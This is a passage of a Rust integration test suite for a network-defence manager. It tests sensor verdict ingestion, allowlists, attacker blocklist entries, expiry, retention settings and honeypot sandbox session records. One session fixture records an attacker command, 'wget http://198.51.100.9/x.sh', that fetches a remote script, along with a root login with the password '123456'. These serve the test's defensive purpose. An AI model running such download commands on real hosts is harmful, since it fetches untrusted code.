//! The evidence side against a real PostgreSQL (one embedded cluster for this test binary, a
//! fresh database per test): verdict ingestion, sandbox sessions, the attack log and attacker page,
//! the live event stream, the dashboard stats, retention, and a verdict crossing replicas to an
//! agent's policy stream.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "tests panic on failure; helpers here are test code"
)]

use std::{net::SocketAddr, time::Duration};

use axum::{
    Router,
    http::{Method, StatusCode, header},
};
mod common;

use common::{Login, PASSWORD, Reply, SseEvent, Users, bearer, call, request, take_event, users};
use manager::{
    AppState, app,
    auth::{new_token, token_hash},
    db,
    test_util::{TestDb, test_config},
};
use serde_json::{Value, json};
use sqlx::PgPool;
use time::OffsetDateTime;

/// A service credential for a server called `name`.
async fn service_credential(pool: &PgPool, name: &str) -> String {
    let credential = new_token();
    db::service_credentials::insert(pool, name, &token_hash(&credential), None)
        .await
        .unwrap();
    credential
}

/// A fresh database with an admin, an operator and a viewer (logged in), a server credential
/// (`sensor-1`), and the app over it.
struct Setup {
    db: TestDb,
    app: Router,
    admin: Login,
    oper: Login,
    view: Login,
    server: String,
}

async fn setup() -> Setup {
    let Users {
        db,
        app,
        admin,
        oper,
        view,
    } = users().await;
    let server = service_credential(&db.pool, "sensor-1").await;
    Setup {
        db,
        app,
        admin,
        oper,
        view,
        server,
    }
}

impl Setup {
    async fn verdicts(&self, verdicts: Value) -> Reply {
        self.verdicts_as(&self.server, verdicts).await
    }

    async fn verdicts_as(&self, credential: &str, verdicts: Value) -> Reply {
        let body = json!({ "verdicts": verdicts });
        call(
            &self.app,
            bearer(
                request(Method::POST, "/api/v1/verdicts", Some(&body)),
                credential,
            ),
        )
        .await
    }

    async fn sessions(&self, sessions: Value) -> Reply {
        let body = json!({ "sessions": sessions });
        call(
            &self.app,
            bearer(
                request(Method::POST, "/api/v1/sandbox-sessions", Some(&body)),
                &self.server,
            ),
        )
        .await
    }

    async fn get(&self, who: &Login, uri: &str) -> Reply {
        call(&self.app, who.sign(request(Method::GET, uri, None))).await
    }

    async fn send(&self, who: &Login, method: Method, uri: &str, body: Value) -> Reply {
        call(&self.app, who.sign(request(method, uri, Some(&body)))).await
    }

    async fn count(&self, sql: &str) -> i64 {
        sqlx::query_scalar(sql)
            .fetch_one(&self.db.pool)
            .await
            .unwrap()
    }

    async fn head(&self) -> i64 {
        self.count("SELECT revision FROM policy_head").await
    }

    /// Sets the `default` group's automatic-entry defaults (the policy editor's job; SQL here).
    async fn default_policy(&self, ttl_secs: Option<i64>, action: &str) {
        sqlx::query(
            "UPDATE policies SET default_ttl_secs = $1, default_action = $2 \
             WHERE group_id = (SELECT id FROM agent_groups WHERE name = 'default')",
        )
        .bind(ttl_secs)
        .bind(action)
        .execute(&self.db.pool)
        .await
        .unwrap();
    }

    async fn attacker(&self, net: &str) -> Value {
        let list = self
            .get(&self.view, &format!("/api/v1/attackers?q={net}"))
            .await;
        assert_eq!(list.status, StatusCode::OK, "{}", list.body);
        list.body
            .as_array()
            .unwrap()
            .iter()
            .find(|a| a["net"] == net)
            .cloned()
            .unwrap_or(Value::Null)
    }
}

fn verdict(id: &str, addr: &str) -> Value {
    json!({
        "id": id, "addr": addr, "rule": "sshd-bruteforce", "service": "sshd",
        "severity": "high", "count": 5,
        "evidence": [format!("sshd[1]: Failed password for root from {addr} port 4711 ssh2")],
        "at": "2024-05-01T10:00:00Z",
    })
}

async fn revisions(pool: &PgPool) -> Vec<(i64, String, String, Option<String>)> {
    sqlx::query_as("SELECT revision, op, net::text, action FROM policy_revisions ORDER BY revision")
        .fetch_all(pool)
        .await
        .unwrap()
}

#[tokio::test]
async fn verdict_batches_are_idempotent() {
    let s = setup().await;
    let batch = json!([
        verdict("k1", "203.0.113.5"),
        verdict("k2", "::ffff:203.0.113.5"),
        verdict("k3", "2001:db8::66"),
    ]);
    let first = s.verdicts(batch.clone()).await;
    assert_eq!(first.status, StatusCode::OK, "{}", first.body);
    assert_eq!(
        first.body,
        json!({ "accepted": 3, "duplicates": 0, "allowlisted": 0, "revision": 2 })
    );
    // One entry per address (the mapped address is the same one), one revision each.
    assert_eq!(
        revisions(&s.db.pool).await,
        [
            (
                1,
                "add".into(),
                "203.0.113.5/32".into(),
                Some("default".into())
            ),
            (
                2,
                "add".into(),
                "2001:db8::66/128".into(),
                Some("default".into())
            ),
        ]
    );
    let entry = s.attacker("203.0.113.5/32").await;
    assert_eq!(entry["evidence_count"], 10);
    assert_eq!(entry["manual"], false);
    assert_eq!(entry["rule"], "sshd-bruteforce");
    assert_eq!(entry["service"], "sshd");
    assert_eq!(entry["reported_by"], json!(["sensor-1"]));
    assert_eq!(
        entry["expires_at"],
        Value::Null,
        "the default policy has no TTL"
    );

    // The retry stores nothing and takes no revision.
    let again = s.verdicts(batch).await;
    assert_eq!(
        again.body,
        json!({ "accepted": 0, "duplicates": 3, "allowlisted": 0, "revision": 2 })
    );
    assert_eq!(s.count("SELECT count(*) FROM detections").await, 3);
    assert_eq!(s.head().await, 2);
    assert_eq!(s.attacker("203.0.113.5/32").await["evidence_count"], 10);

    // A partly new batch: only the new verdict counts; the entry's enforcement is unchanged
    // (no TTL, same action), so no revision either.
    let mixed = s
        .verdicts(json!([
            verdict("k1", "203.0.113.5"),
            verdict("k4", "203.0.113.5")
        ]))
        .await;
    assert_eq!(
        mixed.body,
        json!({ "accepted": 1, "duplicates": 1, "allowlisted": 0, "revision": 2 })
    );
    assert_eq!(s.attacker("203.0.113.5/32").await["evidence_count"], 15);

    // Every detection points at its entry; ids ascend in batch order.
    let rows: Vec<(i64, String, String, Option<i64>, i64)> = sqlx::query_as(
        "SELECT id, idempotency_key, host(attacker_addr), attacker_id, count FROM detections \
         ORDER BY id",
    )
    .fetch_all(&s.db.pool)
    .await
    .unwrap();
    let keys: Vec<&str> = rows.iter().map(|r| r.1.as_str()).collect();
    assert_eq!(keys, ["k1", "k2", "k3", "k4"]);
    assert_eq!(rows[1].2, "203.0.113.5");
    assert!(rows.iter().all(|r| r.3.is_some() && r.4 == 5));
    assert_eq!(rows[0].3, rows[3].3);

    // One audit row per batch that stored something, by the server.
    let audit: Vec<(String, String)> = sqlx::query_as(
        "SELECT actor, action FROM audit_log WHERE action = 'verdicts.ingest' ORDER BY id",
    )
    .fetch_all(&s.db.pool)
    .await
    .unwrap();
    assert_eq!(
        audit,
        [
            ("server:sensor-1".to_owned(), "verdicts.ingest".to_owned()),
            ("server:sensor-1".to_owned(), "verdicts.ingest".to_owned()),
        ]
    );
}

#[tokio::test]
async fn a_bad_item_rejects_the_whole_batch() {
    let s = setup().await;
    let mut bad = verdict("k2", "127.0.0.1");
    let reply = s
        .verdicts(json!([verdict("k1", "203.0.113.5"), bad.clone()]))
        .await;
    assert_eq!(reply.status, StatusCode::BAD_REQUEST);
    let error = reply.body["error"].as_str().unwrap();
    assert!(
        error.starts_with("verdicts[1].addr") && error.contains("loopback"),
        "{error}"
    );
    for (field, value, needle) in [
        ("addr", json!("0.0.0.0"), "verdicts[1].addr"),
        ("addr", json!("ff02::1"), "multicast"),
        ("severity", json!("urgent"), "verdicts[1].severity"),
        ("at", json!("yesterday"), "verdicts[1].at"),
        ("evidence", json!(vec!["x"; 101]), "verdicts[1].evidence"),
        (
            "group",
            json!("nowhere"),
            "verdicts[1].group: no agent group `nowhere`",
        ),
    ] {
        bad = verdict("k2", "203.0.113.6");
        bad[field] = value;
        let reply = s.verdicts(json!([verdict("k1", "203.0.113.5"), bad])).await;
        assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{field}");
        let error = reply.body["error"].as_str().unwrap();
        assert!(error.contains(needle), "{field}: {error}");
    }
    let mut unknown = verdict("k2", "203.0.113.6");
    unknown["priority"] = json!(1);
    let reply = s
        .verdicts(json!([verdict("k1", "203.0.113.5"), unknown]))
        .await;
    assert_eq!(reply.status, StatusCode::BAD_REQUEST);
    assert!(
        reply.body["error"].as_str().unwrap().contains("priority"),
        "{}",
        reply.body
    );
    let empty = s.verdicts(json!([])).await;
    assert_eq!(empty.status, StatusCode::BAD_REQUEST);

    // Nothing of any of them was stored.
    assert_eq!(s.count("SELECT count(*) FROM detections").await, 0);
    assert_eq!(s.count("SELECT count(*) FROM attackers").await, 0);
    assert_eq!(s.head().await, 0);
}

#[tokio::test]
async fn verdicts_need_a_live_service_credential() {
    let s = setup().await;
    let batch = json!({ "verdicts": [verdict("k1", "203.0.113.5")] });
    let post = || request(Method::POST, "/api/v1/verdicts", Some(&batch));

    // Missing and unknown.
    assert_eq!(call(&s.app, post()).await.status, StatusCode::UNAUTHORIZED);
    let unknown = call(&s.app, bearer(post(), &new_token())).await;
    assert_eq!(unknown.status, StatusCode::UNAUTHORIZED);
    assert!(
        unknown.headers[header::WWW_AUTHENTICATE]
            .to_str()
            .unwrap()
            .starts_with("Bearer")
    );
    // A user's session (even an admin's, with CSRF) is not a server.
    let user = call(&s.app, s.admin.sign(post())).await;
    assert_eq!(user.status, StatusCode::UNAUTHORIZED);
    // Nor is an agent.
    let token = s
        .send(
            &s.oper,
            Method::POST,
            "/api/v1/enrollment-tokens",
            json!({}),
        )
        .await
        .body["token"]
        .as_str()
        .unwrap()
        .to_owned();
    let enrolled = call(
        &s.app,
        request(
            Method::POST,
            "/api/v1/agent/enroll",
            Some(&json!({ "token": token, "hostname": "web-1" })),
        ),
    )
    .await;
    assert_eq!(enrolled.status, StatusCode::CREATED, "{}", enrolled.body);
    let agent = enrolled.body["credential"].as_str().unwrap();
    assert_eq!(
        call(&s.app, bearer(post(), agent)).await.status,
        StatusCode::UNAUTHORIZED
    );
    // Sandbox sessions take the same credentials.
    let sessions = json!({ "sessions": [] });
    let req = request(Method::POST, "/api/v1/sandbox-sessions", Some(&sessions));
    assert_eq!(
        call(&s.app, bearer(req, agent)).await.status,
        StatusCode::UNAUTHORIZED
    );

    // Revoked.
    let id: i64 = sqlx::query_scalar("SELECT id FROM service_credentials WHERE name = 'sensor-1'")
        .fetch_one(&s.db.pool)
        .await
        .unwrap();
    assert_eq!(
        call(&s.app, bearer(post(), &s.server)).await.status,
        StatusCode::OK
    );
    let revoked = s
        .send(
            &s.admin,
            Method::DELETE,
            &format!("/api/v1/service-credentials/{id}"),
            json!({}),
        )
        .await;
    assert!(revoked.status.is_success(), "{}", revoked.body);
    assert_eq!(
        call(&s.app, bearer(post(), &s.server)).await.status,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(s.count("SELECT count(*) FROM detections").await, 1);
}

#[tokio::test]
async fn retention_settings_are_admin_only_and_validated() {
    let s = setup().await;
    let current = s.get(&s.view, "/api/v1/settings/retention").await;
    assert_eq!(current.status, StatusCode::OK);
    assert_eq!(
        current.body,
        json!({
            "detections_days": 90, "sandbox_sessions_days": 90, "audit_log_days": 365,
            "login_attempts_days": 30, "policy_revisions_days": 30,
        })
    );
    let change = json!({ "detections_days": 7 });
    for who in [&s.view, &s.oper] {
        let reply = s
            .send(
                who,
                Method::PUT,
                "/api/v1/settings/retention",
                change.clone(),
            )
            .await;
        assert_eq!(reply.status, StatusCode::FORBIDDEN);
    }
    for bad in [
        json!({ "detections_days": 0 }),
        json!({ "audit_log_days": 3651 }),
        json!({ "detections": 7 }),
    ] {
        let reply = s
            .send(
                &s.admin,
                Method::PUT,
                "/api/v1/settings/retention",
                bad.clone(),
            )
            .await;
        assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{bad}");
    }
    let reply = s
        .send(&s.admin, Method::PUT, "/api/v1/settings/retention", change)
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    assert_eq!(reply.body["detections_days"], 7);
    assert_eq!(reply.body["audit_log_days"], 365);
    let now = s.get(&s.view, "/api/v1/settings/retention").await;
    assert_eq!(now.body, reply.body);
    let audit: (String, Value) =
        sqlx::query_as("SELECT actor, details FROM audit_log WHERE action = 'settings.retention'")
            .fetch_one(&s.db.pool)
            .await
            .unwrap();
    assert_eq!(audit.0, "root");
    assert_eq!(audit.1["before"]["detections_days"], 90);
    assert_eq!(audit.1["after"]["detections_days"], 7);
    // Without a CSRF token, even an admin's change is refused.
    let mut req = request(
        Method::PUT,
        "/api/v1/settings/retention",
        Some(&json!({ "audit_log_days": 30 })),
    );
    req.headers_mut()
        .insert(header::COOKIE, s.admin.cookie.parse().unwrap());
    assert_eq!(call(&s.app, req).await.status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn allowlisted_addresses_never_become_attackers() {
    let s = setup().await;
    let allowed = s
        .send(
            &s.oper,
            Method::POST,
            "/api/v1/allowlist",
            json!({ "net": "198.51.100.0/24" }),
        )
        .await;
    assert_eq!(allowed.status, StatusCode::OK, "{}", allowed.body);
    let head = s.head().await;
    let reply = s
        .verdicts(json!([
            verdict("k1", "198.51.100.7"),
            verdict("k2", "::ffff:198.51.100.8"),
            verdict("k3", "203.0.113.5"),
        ]))
        .await;
    assert_eq!(
        reply.body,
        json!({ "accepted": 3, "duplicates": 0, "allowlisted": 2, "revision": head + 1 })
    );
    assert_eq!(s.count("SELECT count(*) FROM attackers").await, 1);
    assert_eq!(
        s.attacker("198.51.100.7/32").await,
        Value::Null,
        "allowlisted"
    );
    // Recorded, marked, and counted against nothing.
    let log = s
        .get(&s.view, "/api/v1/detections?addr=198.51.100.0/24")
        .await;
    let log = log.body.as_array().unwrap();
    assert_eq!(log.len(), 2);
    assert!(
        log.iter()
            .all(|d| d["allowlisted"] == true && d["attacker_id"].is_null())
    );
}

#[tokio::test]
async fn servers_read_the_union_of_every_allowlist() {
    let s = setup().await;
    let get = || request(Method::GET, "/api/v1/allowlists", None);
    let empty = call(&s.app, bearer(get(), &s.server)).await;
    assert_eq!(empty.status, StatusCode::OK, "{}", empty.body);
    assert_eq!(empty.body, json!({ "networks": [], "revision": 0 }));

    let web = s
        .send(
            &s.admin,
            Method::POST,
            "/api/v1/groups",
            json!({ "name": "web" }),
        )
        .await;
    assert!(web.status.is_success(), "{}", web.body);
    for (net, group) in [
        ("2001:db8:ffff::/48", "default"),
        ("198.51.100.0/24", "default"),
        ("10.1.0.0/16", "default"),
        ("198.51.100.0/24", "web"),
        ("192.0.2.7", "web"),
    ] {
        let added = s
            .send(
                &s.oper,
                Method::POST,
                "/api/v1/allowlist",
                json!({ "net": net, "group": group }),
            )
            .await;
        assert_eq!(added.status, StatusCode::OK, "{net}: {}", added.body);
    }
    let union = call(&s.app, bearer(get(), &s.server)).await;
    assert_eq!(union.status, StatusCode::OK);
    assert_eq!(
        union.body,
        json!({
            "networks": ["10.1.0.0/16", "192.0.2.7/32", "198.51.100.0/24", "2001:db8:ffff::/48"],
            "revision": s.head().await,
        })
    );

    // Servers only: no credential, an unknown one, a user's session, an agent's credential.
    assert_eq!(call(&s.app, get()).await.status, StatusCode::UNAUTHORIZED);
    assert_eq!(
        call(&s.app, bearer(get(), &new_token())).await.status,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        call(&s.app, s.admin.sign(get())).await.status,
        StatusCode::UNAUTHORIZED
    );
    let token = s
        .send(
            &s.oper,
            Method::POST,
            "/api/v1/enrollment-tokens",
            json!({}),
        )
        .await
        .body["token"]
        .as_str()
        .unwrap()
        .to_owned();
    let enrolled = call(
        &s.app,
        request(
            Method::POST,
            "/api/v1/agent/enroll",
            Some(&json!({ "token": token, "hostname": "web-1" })),
        ),
    )
    .await;
    let agent = enrolled.body["credential"].as_str().unwrap();
    assert_eq!(
        call(&s.app, bearer(get(), agent)).await.status,
        StatusCode::UNAUTHORIZED
    );
}

#[tokio::test]
async fn ipv6_prefix_verdicts_become_prefix_entries() {
    let s = setup().await;
    let reply = s
        .verdicts(json!([
            verdict("p1", "2001:db8:1:2::/64"),
            verdict("p2", "2001:db8:1:2::/64"),
            verdict("a1", "2001:db8:1:2::5"),
        ]))
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    assert_eq!(
        reply.body,
        json!({ "accepted": 3, "duplicates": 0, "allowlisted": 0, "revision": 2 })
    );
    // The prefix is one entry (both verdicts counted), the address inside it another.
    let entry = s.attacker("2001:db8:1:2::/64").await;
    assert_eq!(entry["evidence_count"], 10, "{entry}");
    assert_eq!(entry["manual"], false);
    assert_eq!(s.attacker("2001:db8:1:2::5/128").await["evidence_count"], 5);
    assert_eq!(
        revisions(&s.db.pool).await,
        [
            (
                1,
                "add".into(),
                "2001:db8:1:2::/64".into(),
                Some("default".into())
            ),
            (
                2,
                "add".into(),
                "2001:db8:1:2::5/128".into(),
                Some("default".into())
            ),
        ]
    );
    // Its detections record the prefix's first address, counted against the prefix's entry.
    let log = s
        .get(&s.view, "/api/v1/detections?addr=2001:db8:1:2::/64")
        .await;
    let log = log.body.as_array().unwrap();
    assert_eq!(log.len(), 3);
    let prefix: Vec<&Value> = log.iter().filter(|d| d["key"] != "a1").collect();
    assert!(
        prefix
            .iter()
            .all(|d| d["addr"] == "2001:db8:1:2::" && d["attacker_id"] == entry["id"]),
        "{prefix:?}"
    );

    // Too broad, host bits, an IPv4 range: 400 naming the field, nothing stored.
    for (addr, needle) in [
        ("2001:db8::/40", "broader than /48"),
        ("2001:db8:1:3::1/64", "did you mean `2001:db8:1:3::/64`"),
        ("203.0.113.0/24", "single address"),
    ] {
        let reply = s.verdicts(json!([verdict("x", addr)])).await;
        assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{addr}");
        let error = reply.body["error"].as_str().unwrap();
        assert!(
            error.starts_with("verdicts[0].addr") && error.contains(needle),
            "{addr}: {error}"
        );
    }
    // A /48 is the broadest accepted; IPv4 as /32 is a single address.
    let reply = s
        .verdicts(json!([
            verdict("w1", "2001:db8:9::/48"),
            verdict("v4", "203.0.113.9/32"),
        ]))
        .await;
    assert_eq!(reply.body["accepted"], 2, "{}", reply.body);
    assert_eq!(s.attacker("2001:db8:9::/48").await["manual"], false);
    assert_eq!(s.attacker("203.0.113.9/32").await["manual"], false);
    assert_eq!(s.count("SELECT count(*) FROM detections").await, 5);
}

#[tokio::test]
async fn a_prefix_overlapping_an_allowlist_never_becomes_an_entry() {
    let s = setup().await;
    // One allowlisted host inside the /64 is enough to keep the whole /64 out.
    let allowed = s
        .send(
            &s.oper,
            Method::POST,
            "/api/v1/allowlist",
            json!({ "net": "2001:db8:5:6::10" }),
        )
        .await;
    assert_eq!(allowed.status, StatusCode::OK, "{}", allowed.body);
    // And a prefix inside an allowlisted range.
    let allowed = s
        .send(
            &s.oper,
            Method::POST,
            "/api/v1/allowlist",
            json!({ "net": "2001:db8:aa::/48" }),
        )
        .await;
    assert_eq!(allowed.status, StatusCode::OK, "{}", allowed.body);
    // A manual block of a /48 covers the /64s inside it.
    let manual = s
        .send(
            &s.oper,
            Method::POST,
            "/api/v1/attackers",
            json!({ "net": "2001:db8:7::/48", "action": "drop" }),
        )
        .await;
    assert_eq!(manual.status, StatusCode::CREATED, "{}", manual.body);
    let head = s.head().await;
    let reply = s
        .verdicts(json!([
            verdict("k1", "2001:db8:5:6::/64"),
            verdict("k2", "2001:db8:aa:1::/64"),
            verdict("k3", "2001:db8:5:7::/64"),
            verdict("k4", "2001:db8:7:1::/64"),
        ]))
        .await;
    assert_eq!(
        reply.body,
        json!({ "accepted": 4, "duplicates": 0, "allowlisted": 2, "revision": head + 1 })
    );
    assert_eq!(s.attacker("2001:db8:5:6::/64").await, Value::Null);
    assert_eq!(s.attacker("2001:db8:aa:1::/64").await, Value::Null);
    assert_eq!(s.attacker("2001:db8:5:7::/64").await["manual"], false);
    assert_eq!(s.attacker("2001:db8:7:1::/64").await, Value::Null);
    assert_eq!(s.attacker("2001:db8:7::/48").await["evidence_count"], 5);
    let flagged: Vec<(String, bool)> =
        sqlx::query_as("SELECT idempotency_key, allowlisted FROM detections ORDER BY id")
            .fetch_all(&s.db.pool)
            .await
            .unwrap();
    assert_eq!(
        flagged,
        [
            ("k1".to_owned(), true),
            ("k2".to_owned(), true),
            ("k3".to_owned(), false),
            ("k4".to_owned(), false),
        ]
    );
}

#[tokio::test]
async fn manual_entries_are_not_downgraded() {
    let s = setup().await;
    s.default_policy(Some(60), "redirect").await;
    let manual = s
        .send(
            &s.oper,
            Method::POST,
            "/api/v1/attackers",
            json!({ "net": "203.0.113.9", "action": "drop", "reason": "by hand" }),
        )
        .await;
    assert_eq!(manual.status, StatusCode::CREATED, "{}", manual.body);
    let range = s
        .send(
            &s.oper,
            Method::POST,
            "/api/v1/attackers",
            json!({ "net": "192.0.2.0/24", "action": "reflect" }),
        )
        .await;
    let head = s.head().await;
    let mut suggested = verdict("k1", "203.0.113.9");
    suggested["action"] = json!("redirect");
    let reply = s
        .verdicts(json!([suggested, verdict("k2", "192.0.2.44")]))
        .await;
    assert_eq!(
        reply.body,
        json!({ "accepted": 2, "duplicates": 0, "allowlisted": 0, "revision": head }),
        "evidence on manual entries changes nothing agents enforce"
    );
    let entry = s.attacker("203.0.113.9/32").await;
    assert_eq!(entry["action"], "drop");
    assert_eq!(entry["manual"], true);
    assert_eq!(entry["expires_at"], Value::Null);
    assert_eq!(entry["reason"], "by hand");
    assert_eq!(entry["evidence_count"], 5);
    assert_eq!(entry["reported_by"], json!(["sensor-1"]));
    // Inside the manual range: counted against it, no /32 that would override it.
    assert_eq!(s.attacker("192.0.2.44/32").await, Value::Null);
    let range_entry = s.attacker("192.0.2.0/24").await;
    assert_eq!(range_entry["action"], "reflect");
    assert_eq!(range_entry["evidence_count"], 5);
    let ids: Vec<Option<i64>> =
        sqlx::query_scalar("SELECT attacker_id FROM detections ORDER BY id")
            .fetch_all(&s.db.pool)
            .await
            .unwrap();
    assert_eq!(ids, [manual.body["id"].as_i64(), range.body["id"].as_i64()]);
    // The same server reporting again is listed once.
    s.verdicts(json!([verdict("k3", "203.0.113.9")])).await;
    let entry = s.attacker("203.0.113.9/32").await;
    assert_eq!(entry["evidence_count"], 10);
    assert_eq!(entry["reported_by"], json!(["sensor-1"]));
}

#[tokio::test]
async fn automatic_entries_get_the_default_ttl_and_expire() {
    let s = setup().await;
    s.default_policy(Some(3600), "drop").await;
    let before = OffsetDateTime::now_utc();
    let reply = s.verdicts(json!([verdict("k1", "203.0.113.5")])).await;
    assert_eq!(reply.body["revision"], 1);
    let entry = s.attacker("203.0.113.5/32").await;
    assert_eq!(entry["action"], "drop");
    assert_eq!(entry["manual"], false);
    assert_eq!(entry["reason"], "sshd-bruteforce on sshd");
    let expires = OffsetDateTime::parse(
        entry["expires_at"].as_str().unwrap(),
        &time::format_description::well_known::Rfc3339,
    )
    .unwrap();
    let ttl = expires - before;
    assert!(
        ttl > time::Duration::seconds(3590) && ttl < time::Duration::seconds(3610),
        "{ttl}"
    );
    let rev: (String, Option<OffsetDateTime>, Value) =
        sqlx::query_as("SELECT op, expires_at, details FROM policy_revisions WHERE revision = 1")
            .fetch_one(&s.db.pool)
            .await
            .unwrap();
    assert_eq!(rev.0, "add");
    assert!(rev.1.is_some());
    assert_eq!(rev.2["id"], entry["id"]);
    assert_eq!(rev.2["server"], "sensor-1");

    // A later verdict suggesting another action updates the entry (a new revision).
    let mut reflect = verdict("k2", "203.0.113.5");
    reflect["action"] = json!("reflect");
    assert_eq!(s.verdicts(json!([reflect])).await.body["revision"], 2);
    assert_eq!(
        revisions(&s.db.pool).await[1],
        (
            2,
            "update".into(),
            "203.0.113.5/32".into(),
            Some("reflect".into())
        )
    );

    // The existing expiry sweep removes it once expired.
    sqlx::query("UPDATE attackers SET expires_at = now() - interval '1 second'")
        .execute(&s.db.pool)
        .await
        .unwrap();
    assert_eq!(
        manager::policy::expiry::sweep_once(&s.db.pool)
            .await
            .unwrap(),
        1
    );
    assert_eq!(s.count("SELECT count(*) FROM attackers").await, 0);
    assert_eq!(revisions(&s.db.pool).await[2].1, "remove");
    // The detections stay, unattributed, and still show on a new entry's page.
    assert_eq!(
        s.count("SELECT count(*) FROM detections WHERE attacker_id IS NULL")
            .await,
        2
    );
    // Seen again: a new automatic entry.
    let again = s.verdicts(json!([verdict("k3", "203.0.113.5")])).await;
    assert_eq!(again.body["revision"], 4);
    let entry = s.attacker("203.0.113.5/32").await;
    assert_eq!(entry["evidence_count"], 5);
    let page = s
        .get(&s.view, &format!("/api/v1/attackers/{}", entry["id"]))
        .await;
    assert_eq!(page.body["detections"].as_array().unwrap().len(), 3);
}

#[tokio::test]
async fn group_verdicts_use_their_group_and_every_group_entries_the_default_policy() {
    let s = setup().await;
    sqlx::query("INSERT INTO agent_groups (name) VALUES ('dmz')")
        .execute(&s.db.pool)
        .await
        .unwrap();
    sqlx::query(
        "INSERT INTO policies (group_id, default_ttl_secs, default_action) \
         SELECT id, 600, 'reflect' FROM agent_groups WHERE name = 'dmz'",
    )
    .execute(&s.db.pool)
    .await
    .unwrap();
    s.default_policy(None, "drop").await;
    let mut dmz = verdict("k1", "203.0.113.5");
    dmz["group"] = json!("dmz");
    let reply = s.verdicts(json!([dmz, verdict("k2", "203.0.113.5")])).await;
    assert_eq!(reply.body["accepted"], 2);
    let rows: Vec<(Option<String>, String, bool)> = sqlx::query_as(
        "SELECT g.name, a.action, a.expires_at IS NOT NULL FROM attackers a \
         LEFT JOIN agent_groups g ON g.id = a.group_id ORDER BY a.id",
    )
    .fetch_all(&s.db.pool)
    .await
    .unwrap();
    assert_eq!(
        rows,
        [
            (Some("dmz".to_owned()), "reflect".to_owned(), true),
            (None, "drop".to_owned(), false),
        ]
    );
    let log = s.get(&s.view, "/api/v1/detections").await;
    assert_eq!(log.body[1]["group"], "dmz");
    assert_eq!(log.body[0]["group"], Value::Null);
}

#[tokio::test]
async fn the_attacker_page_joins_evidence_and_sandbox_sessions() {
    let s = setup().await;
    // A detection from before the entry existed (allowlisted then), inside its network.
    s.send(
        &s.oper,
        Method::POST,
        "/api/v1/allowlist",
        json!({ "net": "203.0.113.5" }),
    )
    .await;
    s.verdicts(json!([verdict("k0", "203.0.113.5")])).await;
    let removed = call(
        &s.app,
        s.oper.sign(request(
            Method::DELETE,
            "/api/v1/allowlist?net=203.0.113.5",
            None,
        )),
    )
    .await;
    assert_eq!(removed.status, StatusCode::OK, "{}", removed.body);
    s.verdicts(json!([
        verdict("k1", "203.0.113.5"),
        verdict("k2", "198.51.100.1")
    ]))
    .await;
    let entry = s.attacker("203.0.113.5/32").await;
    let id = entry["id"].as_i64().unwrap();

    let session = json!({
        "id": "sb-1:42", "sandbox": "sb-1", "addr": "203.0.113.5", "service": "ssh",
        "credentials": [{ "user": "root", "password": "123456", "at": "2024-05-01T10:01:00Z" }],
        "commands": [{ "input": "uname -a", "at": "2024-05-01T10:01:05Z" }],
        "started_at": "2024-05-01T10:01:00Z",
    });
    let reply = s.sessions(json!([session.clone()])).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    assert_eq!(reply.body, json!({ "inserted": 1, "updated": 0 }));
    // Reported again when it ends: lists replaced, end set, still one session.
    let mut ended = session;
    ended["commands"] = json!([
        { "input": "uname -a", "at": "2024-05-01T10:01:05Z" },
        { "input": "wget http://198.51.100.9/x.sh", "at": "2024-05-01T10:01:09Z" },
    ]);
    ended["files"] = json!([{
        "path": "/tmp/x.sh", "sha256": "ab".repeat(32), "size": 120,
        "at": "2024-05-01T10:01:10Z",
    }]);
    ended["ended_at"] = json!("2024-05-01T10:02:00Z");
    let reply = s.sessions(json!([ended])).await;
    assert_eq!(reply.body, json!({ "inserted": 0, "updated": 1 }));
    // A session of another address.
    let other = json!({
        "id": "sb-1:43", "sandbox": "sb-1", "addr": "198.51.100.1", "service": "ftp",
        "started_at": "2024-05-01T10:03:00Z",
    });
    s.sessions(json!([other])).await;
    let bad = json!({ "id": "x", "sandbox": "sb-1", "addr": "::1", "service": "ssh",
                      "started_at": "2024-05-01T10:03:00Z" });
    let refused = s.sessions(json!([bad])).await;
    assert_eq!(refused.status, StatusCode::BAD_REQUEST);
    assert!(
        refused.body["error"]
            .as_str()
            .unwrap()
            .contains("sessions[0].addr")
    );

    let page = s.get(&s.view, &format!("/api/v1/attackers/{id}")).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    assert_eq!(page.body["attacker"]["net"], "203.0.113.5/32");
    let detections = page.body["detections"].as_array().unwrap();
    let keys: Vec<&str> = detections
        .iter()
        .map(|d| d["key"].as_str().unwrap())
        .collect();
    assert_eq!(
        keys,
        ["k1", "k0"],
        "newest first, the earlier one by address"
    );
    assert!(
        detections[0]["evidence"][0]
            .as_str()
            .unwrap()
            .contains("Failed password for root from 203.0.113.5")
    );
    assert_eq!(detections[0]["attacker_id"], id);
    assert_eq!(detections[0]["server"], "sensor-1");
    assert_eq!(detections[0]["severity"], "high");
    let sessions = page.body["sessions"].as_array().unwrap();
    assert_eq!(sessions.len(), 1);
    assert_eq!(sessions[0]["attacker_id"], id);
    assert_eq!(sessions[0]["credentials"][0]["password"], "123456");
    assert_eq!(sessions[0]["commands"].as_array().unwrap().len(), 2);
    assert_eq!(sessions[0]["files"][0]["path"], "/tmp/x.sh");
    assert_eq!(sessions[0]["ended_at"], "2024-05-01T10:02:00Z");

    assert_eq!(
        s.get(&s.view, "/api/v1/attackers/999999").await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        call(
            &s.app,
            request(Method::GET, &format!("/api/v1/attackers/{id}"), None)
        )
        .await
        .status,
        StatusCode::UNAUTHORIZED
    );

    // The list endpoints: filters and keyset paging.
    let by_id = s
        .get(
            &s.view,
            &format!("/api/v1/sandbox-sessions?attacker_id={id}"),
        )
        .await;
    assert_eq!(by_id.body.as_array().unwrap().len(), 1);
    let all = s.get(&s.view, "/api/v1/sandbox-sessions").await;
    assert_eq!(all.body.as_array().unwrap().len(), 2);
    assert_eq!(all.body[0]["service"], "ftp");
    let page1 = s.get(&s.view, "/api/v1/detections?limit=2").await;
    let page1 = page1.body.as_array().unwrap();
